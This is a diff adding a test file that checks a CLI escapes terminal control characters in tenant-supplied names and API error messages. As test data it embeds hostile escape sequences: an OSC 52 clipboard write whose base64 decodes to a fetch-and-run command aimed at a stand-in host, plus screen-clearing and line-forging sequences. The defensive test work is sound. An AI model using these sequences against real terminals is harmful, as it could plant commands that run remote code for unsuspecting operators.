@@ -1,0 +1,228 @@
+import { createServer, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { RequestExplanation } from '@vantageedge/shared/domain/request-explanation';
+import { afterEach, describe, expect, it } from 'vitest';
+import { runCli } from './cli.js';
+import { formatExplanation } from './commands/explain.js';
+import { EXIT } from './exit-codes.js';
+import { table, terminalText } from './output.js';
+import { formatChanges } from './plan-format.js';
+
+// A tenant admin names its resources with terminal escape sequences; an operator lists them with the CLI.
+const OSC52 = '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\u0007'; // writes the operator's clipboard
+const CLEAR = '\u001b[2J\u001b[H';
+const EVIL_ORIGIN = `o${OSC52}${CLEAR}x`;
+const EVIL_KEY = `k${OSC52}x`;
+const EVIL_TENANT = `Evil${CLEAR}`;
+
+/** Every character a terminal may act on: C0, DEL, C1, U+2028/2029, bidi controls. */
+const CONTROLS = '\\u0000-\\u001f\\u007f-\\u009f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069';
+const ANY_CONTROL = new RegExp(`[${CONTROLS}]`);
+/** The same but newline: the lines the CLI lays out itself. */
+const RAW_CONTROL = new RegExp(`(?!\\n)[${CONTROLS}]`);
+
+const TENANT = '7b0c2c52-9e42-4a43-9a5c-3c2f4f7b8e11';
+const ORIGIN = 'e3d7f6c4-3333-4d6d-8e8e-444455556666';
+const KEY = 'a1a1a1a1-4444-4e4e-8f8f-555566667777';
+
+describe('terminalText', () => {
+  it('shows every terminal control character as a visible escape', () => {
+    expect(terminalText(EVIL_ORIGIN)).toBe(
+      'o\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\\u0007\\u001b[2J\\u001b[Hx',
+    );
+    const controls = [
+      '\u0000',
+      '\u0007',
+      '\t',
+      '\n',
+      '\r',
+      '\u001b',
+      '\u001f',
+      '\u007f',
+      '\u0080',
+      '\u009b',
+      '\u009f',
+      '\u2028',
+      '\u2029',
+      '\u202a',
+      '\u202e',
+      '\u2066',
+      '\u2069',
+    ];
+    for (const control of controls) {
+      const shown = terminalText(`a${control}b`);
+      expect(shown).not.toMatch(ANY_CONTROL);
+      expect(shown).toBe(`a\\u${control.charCodeAt(0).toString(16).padStart(4, '0')}b`);
+    }
+  });
+
+  it('keeps ordinary Unicode, and newlines only when asked', () => {
+    const text = 'Café Zürich · 東京支店 · 😀 · שלום · a\\u001b';
+    expect(terminalText(text)).toBe(text);
+    expect(terminalText('one\ntwo\u001b')).toBe('one\\u000atwo\\u001b');
+    expect(terminalText('one\ntwo\u001b', { keepNewlines: true })).toBe('one\ntwo\\u001b');
+    expect(terminalText(terminalText(EVIL_ORIGIN))).toBe(terminalText(EVIL_ORIGIN));
+  });
+});
+
+describe('human-readable output escapes what tenants named', () => {
+  it('tables', () => {
+    const text = table(
+      [{ name: EVIL_ORIGIN, extra: { label: 'x\u009b2J\u202e' }, list: [EVIL_KEY, 'fine'] }],
+      [
+        { header: 'NAME', value: (row) => row.name },
+        { header: 'EXTRA', value: (row) => row.extra },
+        { header: 'LIST', value: (row) => row.list },
+      ],
+    );
+    expect(text).not.toMatch(RAW_CONTROL);
+    expect(text).toContain('o\\u001b]52;c;');
+    expect(text).toContain('\\u009b2J\\u202e');
+    expect(text).toContain('k\\u001b]52;c;');
+    // Columns still line up: the escapes are plain ASCII of the width they are printed with.
+    const [header, row] = text.split('\n');
+    expect(row?.indexOf('{"label"')).toBe(header?.indexOf('EXTRA'));
+  });
+
+  it('explain: the API key and origin names, and every other line', () => {
+    const answer = {
+      tenant_id: TENANT,
+      position: '57',
+      version: '42',
+      request: { method: 'GET', host: 'evil.vantageedge.dev', path: '/x/1', query: '' },
+      host: { resolves: true, kind: 'subdomain', host: 'evil.vantageedge.dev', reason: 'the subdomain' },
+      path: { normalized: '/x/1', reason: null },
+      route: null,
+      routes: [],
+      auth: {
+        mode: 'apikey_required',
+        required_scopes: [],
+        credential: { kind: 'api_key', status: 'active', name: EVIL_KEY, api_key_id: KEY },
+        identity: { kind: 'anonymous' },
+        outcome: { ok: true },
+        notes: [`note\u2028with a separator`],
+      },
+      rate_limits: null,
+      cache: null,
+      upstream: {
+        origin_id: ORIGIN,
+        origin_name: EVIL_ORIGIN,
+        targets: [{ url: 'https://backend.example.com', weight: 1 }],
+        load_balancing: null,
+        timeout_seconds: 30,
+        strip_prefix: null,
+        forwarded_path: '/x/1',
+      },
+      policies: null,
+      decision: { stage: 'upstream', status: null, code: null, message: `forwarded\n\u001b[2Kfake line` },
+    } as unknown as RequestExplanation;
+    const text = formatExplanation('GET', 'https://evil.vantageedge.dev/x/1', answer);
+    expect(text).not.toMatch(RAW_CONTROL);
+    expect(text).toContain('API key "k\\u001b]52;c;');
+    expect(text).toContain('Upstream  o\\u001b]52;c;');
+    expect(text).toContain('note\\u2028with a separator');
+    // A newline in a value cannot start a line of its own.
+    expect(text).toContain('forwarded\\u000a\\u001b[2Kfake line');
+  });
+
+  it('plans', () => {
+    const text = formatChanges([
+      { resource: 'origin', id: ORIGIN, name: EVIL_ORIGIN, change: 'changed', fields: [] },
+      {
+        resource: 'origin',
+        id: null,
+        name: 'ok',
+        change: 'added',
+        fields: [{ field: 'name', from: 'a\u0085', to: `b\u2066${CLEAR}` }],
+      },
+    ]);
+    expect(text).not.toMatch(RAW_CONTROL);
+    expect(text).toContain('~ origin o\\u001b]52;c;');
+    expect(text).toContain('name: "a\\u0085" → "b\\u2066\\u001b[2J');
+  });
+});
+
+describe('the CLI against an admin API holding hostile names', () => {
+  const servers: Array<{ close(): void }> = [];
+  afterEach(() => {
+    for (const server of servers.splice(0)) server.close();
+  });
+
+  const origin = { id: ORIGIN, name: EVIL_ORIGIN, targets: [{ url: 'https://backend.example.com' }] };
+  const key = { id: KEY, name: EVIL_KEY, key_prefix: 'vk_abc', scopes: [], expires_at: null };
+  const tenant = { id: TENANT, name: EVIL_TENANT, subdomain: 'evil', clerk_org_id: null };
+
+  async function adminApi(): Promise<string> {
+    const page = (res: ServerResponse, data: unknown[]) =>
+      res.end(JSON.stringify({ data, next_cursor: null }));
+    const server = createServer((req, res) => {
+      res.setHeader('content-type', 'application/json');
+      const url = req.url ?? '';
+      if (url.startsWith('/api/v1/origins?')) return page(res, [origin]);
+      if (url.startsWith('/api/v1/api-keys?')) return page(res, [key]);
+      if (url.startsWith('/api/v1/tenants?')) return page(res, [tenant]);
+      res.statusCode = 400;
+      res.end(
+        JSON.stringify({
+          error: {
+            code: 'validation_failed',
+            message: `bad${OSC52}`,
+            details: [{ field: `name${CLEAR}`, issue: `no\n\u009b2J` }],
+          },
+        }),
+      );
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    servers.push(server);
+    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  }
+
+  async function run(argv: string[], url: string) {
+    const out: string[] = [];
+    const err: string[] = [];
+    const code = await runCli(argv, {
+      env: {
+        VANTAGEEDGE_URL: url,
+        VANTAGEEDGE_TOKEN: 'admin-token',
+        VANTAGEEDGE_CONFIG: '/nonexistent/x.json',
+      },
+      stdout: (text) => out.push(text),
+      stderr: (text) => err.push(text),
+      stdin: async () => '',
+    });
+    return { code, out: out.join('\n'), err: err.join('\n') };
+  }
+
+  it('get origins|keys|tenants prints escapes, never the raw bytes', async () => {
+    const url = await adminApi();
+    for (const [resource, shown] of [
+      ['origins', 'o\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\\u0007\\u001b[2J\\u001b[Hx'],
+      ['keys', 'k\\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\\u0007x'],
+      ['tenants', 'Evil\\u001b[2J\\u001b[H'],
+    ] as const) {
+      const result = await run(['get', resource], url);
+      expect(result.code).toBe(EXIT.ok);
+      expect(result.out).not.toMatch(RAW_CONTROL);
+      expect(result.out).toContain(shown);
+    }
+  });
+
+  it('JSON and YAML output stays the API’s own', async () => {
+    const url = await adminApi();
+    const json = await run(['get', 'origins', '-o', 'json'], url);
+    expect(JSON.parse(json.out)).toEqual([origin]);
+    expect(json.out).toBe(JSON.stringify([origin], null, 2));
+    const yaml = await run(['get', 'keys', '-o', 'yaml'], url);
+    expect(yaml.code).toBe(EXIT.ok);
+    expect(yaml.out).toContain('\\e]52;c;'); // YAML's own double-quoted escape for ESC
+  });
+
+  it('error messages from the API are escaped too', async () => {
+    const url = await adminApi();
+    const result = await run(['get', 'routes'], url);
+    expect(result.code).toBe(EXIT.usage);
+    expect(result.err).not.toMatch(RAW_CONTROL);
+    expect(result.err).toContain('400 validation_failed: bad\\u001b]52;c;');
+    expect(result.err).toContain('  name\\u001b[2J\\u001b[H: no\\u000a\\u009b2J');
+  });
+});
